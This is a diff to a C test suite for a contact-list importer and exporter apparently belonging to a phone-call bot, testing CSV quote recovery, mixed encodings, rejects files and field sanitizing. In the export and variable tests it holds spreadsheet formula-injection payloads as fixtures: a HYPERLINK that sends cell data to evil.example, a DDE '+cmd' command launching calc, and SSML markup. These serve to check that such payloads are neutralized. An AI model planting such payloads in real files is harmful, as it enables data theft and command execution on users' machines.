@@ -13,11 +13,13 @@
 
 #include "tb-contact-export.h"
 #include "tb-contact-model.h"
+#include "tb-contact-variables.h"
 #include "tb-contact-mapping.h"
 #include "tb-csv-reader.h"
 #include "tb-import-job.h"
 #include "tb-jurisdiction.h"
 #include "tb-phone.h"
+#include "tb-script.h"
 #include "tb-store-config.h"
 #include "tb-store-contacts.h"
 #include "tb-store-dnc.h"
@@ -192,10 +194,12 @@ test_csv_unterminated (Fixture       *f,
   const char *text = "name,phone\nAnn,123\n\"Bob,456\nCarl,789\n";
   g_autofree char *path = write_file (f, "u.csv", text, -1);
   g_autoptr(GPtrArray) rows = read_all (path, NULL, 0, NULL, NULL);
+  /* The quote opened on line 3 is rejected with its line; Carl is still read. */
   const char * const expected[] = {
     "name|phone@1",
     "Ann|123@2",
-    "!Bob,456\nCarl,789\n@3",
+    "!Bob,456@3",
+    "Carl|789@4",
     NULL
   };
 
@@ -211,39 +215,129 @@ test_csv_unterminated (Fixture       *f,
   }
 }
 
-/* A record over 1 MiB (a quote left open in a big file) is one rejected row
- * of bounded size; the reader carries on after it. */
+/* Issue 19 §2: a quote left open swallows at most its own line. Past 100 lines
+ * (or 64 KiB) after its line the record is rejected and reading resumes on the
+ * line after the one where the quote opened. */
+static void
+test_csv_runaway_quote (Fixture       *f,
+                        gconstpointer  data)
+{
+  g_autoptr(GString) text = g_string_new ("name,phone\nAnn,1\nBob,\"2\n");
+  g_autoptr(GString) wide = g_string_new ("name,phone\n\"Wide,1\n");
+  g_autofree char *path = NULL;
+  g_autofree char *wide_path = NULL;
+  g_autofree char *closed_path = NULL;
+  g_autoptr(GPtrArray) rows = NULL;
+  g_autoptr(GPtrArray) wide_rows = NULL;
+  g_autoptr(GPtrArray) closed_rows = NULL;
+
+  for (guint i = 0; i < 150; i++)
+    g_string_append_printf (text, "C%u,%u\n", i, i);
+  g_string_append (text, "Zed,9\n");
+  path = write_file (f, "runaway.csv", text->str, text->len);
+  rows = read_all (path, NULL, 0, NULL, NULL);
+  g_assert_cmpuint (rows->len, ==, 2 + 1 + 150 + 1);
+  g_assert_cmpstr (rows->pdata[1], ==, "Ann|1@2");
+  g_assert_cmpstr (rows->pdata[2], ==, "!Bob|2@3");
+  g_assert_cmpstr (rows->pdata[3], ==, "C0|0@4");
+  g_assert_cmpstr (rows->pdata[152], ==, "C149|149@153");
+  g_assert_cmpstr (rows->pdata[153], ==, "Zed|9@154");
+
+  /* Fewer than 100 lines, but more than 64 KiB of them. */
+  for (guint i = 0; i < 70; i++) {
+    g_string_append_printf (wide, "W%u,", i);
+    for (guint k = 0; k < 100; k++)
+      g_string_append (wide, "0123456789");
+    g_string_append_c (wide, '\n');
+  }
+  wide_path = write_file (f, "wide.csv", wide->str, wide->len);
+  wide_rows = read_all (wide_path, NULL, 0, NULL, NULL);
+  g_assert_cmpuint (wide_rows->len, ==, 2 + 70);
+  g_assert_cmpstr (wide_rows->pdata[1], ==, "!Wide,1@2");
+  g_assert_true (g_str_has_prefix (wide_rows->pdata[2], "W0|0123"));
+  g_assert_true (g_str_has_suffix (wide_rows->pdata[71], "@72"));
+
+  /* A field that spans lines and closes with text after its quote is a
+   * stray quote too: the rows it ran over are read again. */
+  closed_path = write_file (f, "closed.csv", "Ann,\"1\nBob,2\nCee,\"3\nDee,4\n", -1);
+  closed_rows = read_all (closed_path, NULL, 0, NULL, NULL);
+  {
+    const char * const expected[] = { "!Ann|1@1", "Bob|2@2", "!Cee|3@3", "Dee|4@4", NULL };
+
+    assert_rows (closed_rows, expected);
+  }
+}
+
+/* A line over 1 MiB is one rejected row, its text kept whole for the rejects
+ * file, and the reader carries on after it. A quote left open in a big file
+ * (this test once expected it to swallow 3 MiB into one row) costs its line. */
 static void
 test_csv_huge_record (Fixture       *f,
                       gconstpointer  data)
 {
-  g_autoptr(GString) text = g_string_new ("a,b\n\"");
+  static const char line64[] = "012345678901234567890123456789012345678901234567890123456789012,";
+  g_autoptr(GString) text = g_string_new ("a,b\n");
   g_autoptr(TbCsvReader) reader = NULL;
   g_autoptr(GError) error = NULL;
   g_autofree char *path = NULL;
   const char * const *fields;
-  guint n = 0;
+  const char *line;
+  guint n = 0, n_quoted = 3 * 1024 * 1024 / 64;
+  gsize len = 0;
 
-  for (guint i = 0; i < 3 * 1024 * 1024 / 64; i++)
-    g_string_append (text, "0123456789012345678901234567890123456789012345678901234567890,\n");
-  g_string_append (text, "\",y\nnext,row\n");
+  for (guint i = 0; i < 2 * 1024 * 1024 / 64; i++)
+    g_string_append (text, line64);
+  g_string_append (text, "\nnext,row\n\"");
+  for (guint i = 0; i < n_quoted; i++)
+    g_string_append_printf (text, "%s\n", line64);
+  g_string_append (text, "\",y\nlast,row\n");
   path = write_file (f, "huge.csv", text->str, text->len);
 
   reader = tb_csv_reader_new_for_path (path, NULL, 0, &error);
   g_assert_no_error (error);
   g_assert_cmpint (tb_csv_reader_next (reader, &error), ==, TB_CSV_RECORD);
   g_assert_null (tb_csv_reader_get_problem (reader));
+
   g_assert_cmpint (tb_csv_reader_next (reader, &error), ==, TB_CSV_RECORD);
+  g_assert_cmpint (tb_csv_reader_get_problem_kind (reader), ==, TB_CSV_PROBLEM_TOO_LONG);
   g_assert_nonnull (strstr (tb_csv_reader_get_problem (reader), "longer than 1 MiB"));
   g_assert_cmpint (tb_csv_reader_get_line (reader), ==, 2);
   fields = tb_csv_reader_get_fields (reader, &n);
   g_assert_cmpuint (strlen (fields[0]), <=, 1024 * 1024);
+  line = tb_csv_reader_get_text (reader, &len);
+  g_assert_cmpuint (len, ==, 2 * 1024 * 1024);
+  g_assert_true (g_str_has_prefix (line, line64));
+  g_assert_true (g_str_has_suffix (line, line64));
+
   g_assert_cmpint (tb_csv_reader_next (reader, &error), ==, TB_CSV_RECORD);
   g_assert_null (tb_csv_reader_get_problem (reader));
-  g_assert_cmpint (tb_csv_reader_get_line (reader), ==, 3 * 1024 * 1024 / 64 + 3);
+  g_assert_cmpint (tb_csv_reader_get_line (reader), ==, 3);
   fields = tb_csv_reader_get_fields (reader, &n);
   g_assert_cmpuint (n, ==, 2);
   g_assert_cmpstr (fields[0], ==, "next");
+  line = tb_csv_reader_get_text (reader, &len);
+  g_assert_cmpstr (line, ==, "next,row");
+
+  /* The open quote: its line is rejected whole, every line it ran over is read. */
+  g_assert_cmpint (tb_csv_reader_next (reader, &error), ==, TB_CSV_RECORD);
+  g_assert_cmpint (tb_csv_reader_get_problem_kind (reader), ==, TB_CSV_PROBLEM_QUOTE);
+  g_assert_cmpint (tb_csv_reader_get_line (reader), ==, 4);
+  g_assert_cmpint (tb_csv_reader_get_last_line (reader), ==, 4);
+  line = tb_csv_reader_get_text (reader, &len);
+  g_assert_cmpuint (len, ==, 65);
+  g_assert_true (line[0] == '"' && g_str_has_suffix (line, line64));
+  for (guint i = 1; i < n_quoted; i++) {
+    g_assert_cmpint (tb_csv_reader_next (reader, &error), ==, TB_CSV_RECORD);
+    if (tb_csv_reader_get_problem (reader) != NULL || tb_csv_reader_get_line (reader) != 4 + i)
+      g_assert_cmpuint (i, ==, 0);
+  }
+  g_assert_cmpint (tb_csv_reader_next (reader, &error), ==, TB_CSV_RECORD);
+  g_assert_cmpint (tb_csv_reader_get_problem_kind (reader), ==, TB_CSV_PROBLEM_QUOTE);
+  g_assert_cmpint (tb_csv_reader_get_line (reader), ==, 4 + n_quoted);
+  g_assert_cmpstr (tb_csv_reader_get_text (reader, NULL), ==, "\",y");
+  g_assert_cmpint (tb_csv_reader_next (reader, &error), ==, TB_CSV_RECORD);
+  g_assert_null (tb_csv_reader_get_problem (reader));
+  g_assert_cmpint (tb_csv_reader_get_line (reader), ==, 5 + n_quoted);
   g_assert_cmpint (tb_csv_reader_next (reader, &error), ==, TB_CSV_END);
   g_assert_no_error (error);
 }
@@ -357,6 +451,136 @@ test_csv_encodings (Fixture       *f,
     g_assert_cmpuint (rows->len, ==, 2);
     g_assert_true (((char *) rows->pdata[0])[0] == '!');   /* invalid UTF-8: a problem row */
   }
+}
+
+/* Issue 19 §2: one Latin-1 row made a UTF-8 file decode as GB18030 ("José
+ * Müller" became "Jos茅 M眉ller"). A file that is UTF-8 in nearly every line is
+ * UTF-8; the odd line is rejected and says what it looks like. */
+static void
+test_csv_mixed_encodings (Fixture       *f,
+                          gconstpointer  data)
+{
+  static const char text[] =
+    "name,phone,city\n"
+    "José Müller,+1 202 555 0101,Zürich\n"
+    "Åsa Öberg,+1 202 555 0102,Malmö\n"
+    "Fran\xe7ois L\xe9ger,+1 202 555 0103,Montr\xe9" "al\n"  /* Latin-1 */
+    "李雷,+1 202 555 0104,北京\n"
+    "Nul\0Byte,+1 202 555 0105,Nowhere\n"                   /* a NUL byte */
+    "Zoë Ærø,+1 202 555 0106,Tórshavn\n";
+  g_autofree char *path = write_file (f, "mixed.csv", text, sizeof text - 1);
+  g_autoptr(TbCsvReader) reader = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GPtrArray) rows = NULL;
+  g_autofree char *encoding = NULL;
+  g_autofree char *sample = NULL;
+  g_auto(GStrv) candidates = NULL;
+  guint n = 0;
+
+  rows = read_all (path, NULL, 0, &encoding, NULL);
+  g_assert_cmpstr (encoding, ==, "utf-8");
+  g_assert_cmpuint (rows->len, ==, 7);
+  g_assert_cmpstr (rows->pdata[1], ==, "José Müller|+1 202 555 0101|Zürich@2");
+  g_assert_cmpstr (rows->pdata[2], ==, "Åsa Öberg|+1 202 555 0102|Malmö@3");
+  g_assert_true (((char *) rows->pdata[3])[0] == '!');
+  g_assert_cmpstr (rows->pdata[4], ==, "李雷|+1 202 555 0104|北京@5");
+  g_assert_true (((char *) rows->pdata[5])[0] == '!');
+  g_assert_cmpstr (rows->pdata[6], ==, "Zoë Ærø|+1 202 555 0106|Tórshavn@7");
+
+  reader = tb_csv_reader_new_for_path (path, NULL, 0, &error);
+  g_assert_no_error (error);
+  /* Not every line agrees: a guess, with a sample the user can judge. */
+  g_assert_false (tb_csv_reader_is_encoding_certain (reader));
+  candidates = tb_csv_reader_dup_candidates (reader);
+  g_assert_cmpstrv (candidates, ((const char * const[]) { "utf-8", "gb18030", "latin-1", NULL }));
+  sample = tb_csv_reader_dup_sample (reader, "utf-8");
+  g_assert_cmpstr (sample, ==, "José Müller,+1 202 555 0101,Zürich");
+  g_free (sample);
+  sample = tb_csv_reader_dup_sample (reader, "gb18030");
+  g_assert_cmpstr (sample, ==, "Jos茅 M眉ller,+1 202 555 0101,Z眉rich");   /* the bug, shown */
+  g_free (sample);
+  sample = tb_csv_reader_dup_sample (reader, "latin-1");
+  g_assert_cmpstr (sample, ==, "JosÃ© MÃ¼ller,+1 202 555 0101,ZÃ¼rich");
+  while (tb_csv_reader_next (reader, &error) == TB_CSV_RECORD) {
+    n++;
+    if (n == 4)
+      g_assert_cmpstr (tb_csv_reader_get_problem (reader), ==,
+                       "not valid UTF-8 (looks like Latin-1)");
+    else if (n == 6)
+      g_assert_cmpstr (tb_csv_reader_get_problem (reader), ==, "the row holds a NUL byte");
+    else
+      g_assert_null (tb_csv_reader_get_problem (reader));
+  }
+  g_assert_no_error (error);
+  g_assert_cmpuint (n, ==, 7);
+}
+
+/* The Latin-1 row far into a UTF-8 file (past what detection samples). */
+static void
+test_csv_late_latin1 (Fixture       *f,
+                      gconstpointer  data)
+{
+  g_autoptr(GString) text = g_string_new ("name,phone\n");
+  g_autoptr(TbCsvReader) reader = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autofree char *path = NULL;
+  guint n = 0, problems = 0;
+
+  for (guint i = 0; i < 50000; i++)
+    g_string_append_printf (text, "%s %u,+1 202 555 %04u\n", i == 31000 ? "J\xf6rg" : "Jörg",
+                            i, i % 10000);
+  path = write_file (f, "late.csv", text->str, text->len);
+  reader = tb_csv_reader_new_for_path (path, NULL, 0, &error);
+  g_assert_no_error (error);
+  g_assert_cmpstr (tb_csv_reader_get_encoding (reader), ==, "utf-8");
+  while (tb_csv_reader_next (reader, &error) == TB_CSV_RECORD) {
+    n++;
+    if (tb_csv_reader_get_problem (reader) != NULL) {
+      problems++;
+      g_assert_cmpint (tb_csv_reader_get_line (reader), ==, 31002);
+      g_assert_cmpstr (tb_csv_reader_get_problem (reader), ==,
+                       "not valid UTF-8 (looks like Latin-1)");
+    }
+  }
+  g_assert_cmpuint (n, ==, 50001);
+  g_assert_cmpuint (problems, ==, 1);
+}
+
+/* Genuine Latin-1 (Windows-1252) files are read as such; two BOMs do not
+ * glue the second to the first column's name. */
+static void
+test_csv_latin1_and_double_bom (Fixture       *f,
+                                gconstpointer  data)
+{
+  static const char latin1[] =
+    "name,city\n"
+    "Jos\xe9,S\xe3o Paulo\n"
+    "Fran\xe7ois,Montr\xe9" "al\n"
+    "M\xfcller,K\xf6ln\n"
+    "\x93Quoted\x94,Caf\xe9\n";
+  const char * const expected[] = {
+    "name|city@1",
+    "José|São Paulo@2",
+    "François|Montréal@3",
+    "Müller|Köln@4",
+    "“Quoted”|Café@5",
+    NULL
+  };
+  g_autofree char *path = write_file (f, "latin1.csv", latin1, sizeof latin1 - 1);
+  g_autofree char *bom2 = write_file (f, "bom2.csv",
+                                      "\xef\xbb\xbf\xef\xbb\xbfname,phone\nAnn,1\n", -1);
+  g_autofree char *encoding = NULL;
+  g_autoptr(GPtrArray) rows = read_all (path, NULL, 0, &encoding, NULL);
+  g_autoptr(GPtrArray) bom_rows = NULL;
+  const char * const bom_expected[] = { "name|phone@1", "Ann|1@2", NULL };
+
+  g_assert_cmpstr (encoding, ==, "latin-1");
+  assert_rows (rows, expected);
+
+  g_clear_pointer (&encoding, g_free);
+  bom_rows = read_all (bom2, NULL, 0, &encoding, NULL);
+  g_assert_cmpstr (encoding, ==, "utf-8-bom");
+  assert_rows (bom_rows, bom_expected);
 }
 
 static void
@@ -671,6 +895,14 @@ test_import_broken_rows (Fixture       *f,
   g_assert_cmpint (result.duplicates, ==, 1);
   g_assert_cmpint (result.rejected, ==, 4);
   g_assert_cmpint (result.rows, ==, result.imported + result.duplicates + result.rejected);
+  /* Lines, not rows: the row on lines 5-7 counts three. */
+  g_assert_cmpint (result.lines, ==, 10);
+  g_assert_cmpint (result.rejected_lines, ==, 4);
+  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_PHONE_INVALID], ==, 2);
+  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_PHONE_EMPTY], ==, 1);
+  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_UNCLOSED_QUOTE], ==, 1);
+  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_ENCODING], ==, 0);
+  g_assert_true (tb_import_result_too_many_rejected (&result));
 
   contacts = list_contacts (f, result.list_id);
   g_assert_cmpuint (contacts->len, ==, 3);
@@ -693,6 +925,108 @@ test_import_broken_rows (Fixture       *f,
   g_assert_true (g_str_has_prefix (lines->pdata[3], "8,phone “123” is not"));
   g_assert_true (g_str_has_prefix (lines->pdata[4],
                                    "11,a quoted field is not closed before the end of the file,"));
+}
+
+/* The rejects file keeps each rejected line as the file had it: a line with
+ * a stray quote, a Latin-1 line in a UTF-8 file, byte for byte. */
+static void
+test_import_rejects_whole (Fixture       *f,
+                           gconstpointer  data)
+{
+  static const char text[] =
+    "name,phone,company\n"
+    "Ann,+1 202 555 0101,Acme\n"
+    "Bob,\"+1 202 555 0102,Acme\n"                  /* 3: a stray quote */
+    "Jos\xe9,+1 202 555 0103,Caf\xe9\n"              /* 4: Latin-1 */
+    "Cee,+1 202 555 0104,Acme\n"
+    "Dee,+1 202 555 0105,\"Acme, \"\"Inc\"\"\"\n"
+    "Åsa,+1 202 555 0106,Malmö\n"
+    "Zoë,+1 202 555 0107,Tórshavn\n";
+  g_autofree char *path = write_file (f, "whole.csv", text, sizeof text - 1);
+  g_auto(TbImportResult) result = { 0 };
+  g_autoptr(GError) error = NULL;
+  g_autofree char *rejects = NULL;
+  g_autoptr(GPtrArray) contacts = NULL;
+
+  g_assert_true (import_file (f, path, "Whole", "US", NULL, &result, &error));
+  g_assert_no_error (error);
+  g_assert_cmpstr (result.encoding, ==, "utf-8");
+  g_assert_cmpint (result.imported, ==, 5);
+  g_assert_cmpint (result.rejected, ==, 2);
+  g_assert_cmpint (result.lines, ==, 7);
+  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_UNCLOSED_QUOTE], ==, 1);
+  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_ENCODING], ==, 1);
+  g_assert_false (result.encoding_certain);
+  contacts = list_contacts (f, result.list_id);
+  g_assert_cmpstr (((TbContactRecord *) contacts->pdata[2])->company, ==, "Acme, \"Inc\"");
+
+  g_assert_true (g_file_get_contents (result.rejects_path, &rejects, NULL, &error));
+  g_assert_cmpstr (rejects, ==,
+                   "line,reason,name,phone,company\r\n"
+                   "3,a quoted field runs past the end of its line (a stray quote?),"
+                   "\"Bob,\"\"+1 202 555 0102,Acme\"\r\n"
+                   "4,not valid UTF-8 (looks like Latin-1),Jos\xe9,+1 202 555 0103,Caf\xe9\r\n");
+}
+
+/* Lines over 1 MiB are rejected whole, however many: the batches that carry
+ * them to the rejects file are handed over before they grow without bound. */
+static void
+test_import_huge_lines (Fixture       *f,
+                        gconstpointer  data)
+{
+  g_autoptr(GString) text = g_string_new ("name,phone\n");
+  g_autofree char *big = g_strnfill (3 * 1024 * 1024, 'x');
+  g_auto(TbImportResult) result = { 0 };
+  g_autoptr(GError) error = NULL;
+  g_autofree char *rejects = NULL;
+  g_autofree char *path = NULL;
+  gsize len = 0;
+
+  for (guint i = 0; i < 6; i++)
+    g_string_append_printf (text, "Ann %u,+1 202 555 01%02u\nBig %u,%s\n", i, i, i, big);
+  path = write_file (f, "huge-lines.csv", text->str, text->len);
+  g_assert_true (import_file (f, path, "Huge", "US", NULL, &result, &error));
+  g_assert_no_error (error);
+  g_assert_cmpint (result.imported, ==, 6);
+  g_assert_cmpint (result.reason_lines[TB_IMPORT_REASON_TOO_LONG], ==, 6);
+  g_assert_true (g_file_get_contents (result.rejects_path, &rejects, &len, &error));
+  /* Each line whole: "Big N," and its 3 MiB, with line number and reason. */
+  g_assert_cmpuint (len, >, 6 * (3 * 1024 * 1024 + 6));
+  g_assert_nonnull (strstr (rejects, "\r\n13,the record is longer than 1 MiB,"
+                                     "\"Big 5,xxx"));
+}
+
+/* Issue 19 §4: cells a spreadsheet would run as formulas are exported as
+ * text ('=…); E.164 numbers are numbers, not formulas, and stay as they are. */
+static void
+test_export_formulas (Fixture       *f,
+                      gconstpointer  data)
+{
+  const char *text =
+    "name,phone,company,note,office\n"
+    "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",+1 202 555 0101,"
+    "+cmd|' /C calc'!A0,@SUM(1+1),-2+3\n"
+    "Bob,+1 202 555 0102,Acme,\tTab,+12025550199\n";
+  g_autofree char *path = write_file (f, "evil.csv", text, -1);
+  g_auto(TbImportResult) result = { 0 };
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
+  g_autofree char *exported = NULL;
+
+  g_assert_true (import_file (f, path, "Evil", "US", NULL, &result, &error));
+  g_assert_no_error (error);
+  g_assert_cmpint (result.imported, ==, 2);
+  g_assert_cmpint (tb_contacts_export (f->store, result.list_id, out, FALSE, NULL, &error), ==,
+                   2);
+  g_assert_no_error (error);
+  g_output_stream_write_all (out, "", 1, NULL, NULL, &error);
+  g_output_stream_close (out, NULL, &error);
+  exported = g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (out));
+  g_assert_cmpstr (exported, ==,
+                   "name,phone,company,email,timezone,persona,note,office\r\n"
+                   "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","
+                   "+12025550101,'+cmd|' /C calc'!A0,,America/New_York,,'@SUM(1+1),'-2+3\r\n"
+                   "Bob,+12025550102,Acme,,America/New_York,,'\tTab,+12025550199\r\n");
 }
 
 static void
@@ -821,6 +1155,45 @@ test_round_trip (Fixture       *f,
     g_test_message ("%s: %s", (char *) key, (char *) value);
     g_assert_cmpstr (g_hash_table_lookup (b, key), ==, value);
   }
+}
+
+/* Issue 19 §4: contact fields are spoken by the synthesizer. One that looks
+ * like a formula, holds markup (SSML) or runs on is not said: the script's
+ * fallback is, as if the field were empty. */
+static void
+test_variables_unsafe (void)
+{
+  g_autofree char *long_text = g_strnfill (81, 'a');
+  g_autofree char *fields = g_strdup_printf ("{\"city\":\"Paris\",\"memo\":\"%s\","
+                                             "\"office\":\"+12025550199\","
+                                             "\"pitch\":\"<speak>buy</speak>\","
+                                             "\"score\":\"-1\",\"at\":\"@home\","
+                                             "\"ok80\":\"%.*s\"}", long_text, 80, long_text);
+  g_autoptr(GHashTable) vars = tb_contact_variables_new ("=HYPERLINK(\"http://x\")", "Acme",
+                                                         fields);
+  g_autoptr(GHashTable) vars2 = tb_contact_variables_new ("Ann", "<b>Acme</b>", NULL);
+  g_autoptr(TbScript) script = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autofree char *said = NULL;
+  g_autofree char *said2 = NULL;
+
+  g_assert_false (g_hash_table_contains (vars, "name"));
+  g_assert_cmpstr (g_hash_table_lookup (vars, "company"), ==, "Acme");
+  g_assert_cmpstr (g_hash_table_lookup (vars, "city"), ==, "Paris");
+  g_assert_false (g_hash_table_contains (vars, "memo"));     /* 81 characters */
+  g_assert_nonnull (g_hash_table_lookup (vars, "ok80"));      /* 80 are fine */
+  g_assert_false (g_hash_table_contains (vars, "pitch"));
+  g_assert_false (g_hash_table_contains (vars, "score"));
+  g_assert_false (g_hash_table_contains (vars, "at"));
+  g_assert_cmpstr (g_hash_table_lookup (vars, "office"), ==, "+12025550199");
+
+  script = tb_script_new_from_data ("{\"telebot_script\":1,\"variables\":{\"name\":\"there\","
+                                    "\"company\":\"your company\"}}", -1, NULL, &error);
+  g_assert_no_error (error);
+  said = tb_script_expand_text (script, "Hello {name}, from {company} in {city}.", vars);
+  g_assert_cmpstr (said, ==, "Hello there, from Acme in Paris.");
+  said2 = tb_script_expand_text (script, "Hello {name}, from {company}.", vars2);
+  g_assert_cmpstr (said2, ==, "Hello Ann, from your company.");
 }
 
 static void
@@ -1234,15 +1607,23 @@ main (int    argc,
   ADD ("csv/chunk-boundaries", test_csv_chunks);
   ADD ("csv/huge-record", test_csv_huge_record);
   ADD ("csv/encodings", test_csv_encodings);
+  ADD ("csv/runaway-quote", test_csv_runaway_quote);
+  ADD ("csv/mixed-encodings", test_csv_mixed_encodings);
+  ADD ("csv/late-latin1-row", test_csv_late_latin1);
+  ADD ("csv/latin1-and-double-bom", test_csv_latin1_and_double_bom);
   g_test_add_func ("/telebot/contacts/phone/e164", test_phone_e164);
   g_test_add_func ("/telebot/contacts/mapping/headers", test_mapping);
   ADD ("import/gbk-chinese-headers", test_import_gbk_chinese);
   ADD ("import/broken-rows", test_import_broken_rows);
   ADD ("import/custom-fields-and-map", test_import_custom_fields_and_override);
+  ADD ("import/rejects-keep-lines-whole", test_import_rejects_whole);
+  ADD ("import/huge-lines-rejected-whole", test_import_huge_lines);
+  ADD ("export/formulas-as-text", test_export_formulas);
   ADD ("import/round-trip", test_round_trip);
   ADD ("import/cancel", test_cancel);
   ADD ("import/job", test_job);
   ADD ("dnc/import-and-list", test_dnc);
+  g_test_add_func ("/telebot/contacts/variables/unsafe-not-spoken", test_variables_unsafe);
   ADD ("store/paging", test_store_paging);
   ADD ("model/paged-list-model", test_model);
 
